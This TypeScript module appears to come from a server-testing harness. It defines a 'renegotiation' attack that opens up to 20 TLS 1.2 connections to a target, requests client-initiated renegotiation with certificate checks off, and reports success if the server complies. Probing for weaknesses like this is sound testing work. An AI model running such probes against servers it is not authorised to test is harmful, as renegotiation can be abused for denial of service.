import type { Attack } from '../attack.ts';

export const renegotiation: Attack = {
  name: 'renegotiation',
  input: 'TLS 1.2 clients that request new handshakes',
  async run({ victim, connections, count }) {
    let renegotiated = 0;
    const clients = count(20);
    for (let n = 0; n < clients; n++) {
      const client = await connections.connectTls(victim.port, { maxVersion: 'TLSv1.2', ALPNProtocols: ['http/1.1'] });
      const done = new Promise<boolean>((resolve) => {
        client.renegotiate({ rejectUnauthorized: false }, (error) => resolve(error === null));
        client.once('error', () => resolve(false));
        client.once('close', () => resolve(false));
      });
      if (await done) renegotiated++;
    }
    const did = `${renegotiated} of ${clients} handshakes`;
    return { did, success: renegotiated > 0 ? 'the server renegotiates' : undefined };
  },
};
